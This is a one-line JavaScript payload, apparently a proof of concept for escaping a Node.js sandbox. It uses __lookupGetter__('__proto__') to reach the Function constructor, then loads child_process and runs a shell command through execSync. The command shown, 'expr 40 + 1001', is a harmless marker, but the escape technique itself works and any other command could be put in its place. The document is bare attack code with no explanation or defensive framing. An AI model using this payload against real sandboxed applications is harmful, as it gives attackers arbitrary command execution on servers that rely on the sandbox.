const g=({}).__lookupGetter__('__proto__'); const P=g.call(()=>{}); P.constructor('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
